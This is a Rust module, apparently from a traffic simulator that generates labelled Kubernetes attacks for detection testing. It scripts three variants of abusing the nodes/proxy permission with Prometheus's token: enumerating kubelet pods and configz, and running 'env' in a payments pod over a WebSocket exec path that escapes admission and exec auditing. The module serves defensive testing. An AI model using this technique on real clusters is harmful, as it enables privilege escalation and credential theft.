//! The kubelets are reached through the API server, past admission and the audit of exec.
//!
//! **Plain**: with the token of Prometheus, by curl in its pod, up to a command in another pod. **Slow**: a node an hour.
//! **Living off the land**: with the scraper's own agent, from its own pod.

use crate::call::{Call, Expect};
use crate::cast::{Actor, robot};
use crate::clock::Moment;
use crate::dice::Dice;
use crate::timetable::{Pace, Timetable, attack};

/// The three variants, on different days.
pub fn plan(table: &mut Timetable, dice: &mut Dice) {
    let own = robot("monitoring", "prometheus", "Prometheus/3.7.1");
    let curl = own.with_agent("curl/8.14.1");
    let mut calls = listed(&curl);
    calls.push(command(&curl));
    let at = Moment::at(1, 3, dice.between(0, 60));
    table.add_marked(
        at,
        Pace::AtOnce,
        &attack("nodes-proxy", "plain", "T1609"),
        calls,
    );

    let at = Moment::at(2, 8, dice.between(10, 60));
    table.add_marked(
        at,
        Pace::Hourly,
        &attack("nodes-proxy", "slow", "T1609"),
        listed(&curl),
    );

    let calls = vec![
        own.get("/api/v1/nodes/node-2/proxy/pods")
            .expecting(Expect::Anything),
        command(&own),
    ];
    let at = Moment::at(4, 16, dice.between(0, 60));
    let mark = attack("nodes-proxy", "living-off-the-land", "T1609");
    table.add_marked(at, Pace::AtOnce, &mark, calls);
}

fn listed(thief: &Actor) -> Vec<Call> {
    let mut calls = Vec::new();
    for node in 1..=4 {
        for page in ["pods", "configz"] {
            let path = format!("/api/v1/nodes/node-{node}/proxy/{page}");
            calls.push(thief.get(path).expecting(Expect::Anything));
        }
    }
    calls
}

/// The right to `get` nodes/proxy is enough to run a command when it is sent as a `WebSocket`.
fn command(thief: &Actor) -> Call {
    let pod = "{pod:payments/payment/0}";
    thief
        .stream(format!(
            "/api/v1/nodes/node-2/proxy/exec/payments/{pod}/payment?command=env&output=1&error=1"
        ))
        .expecting(Expect::Anything)
}
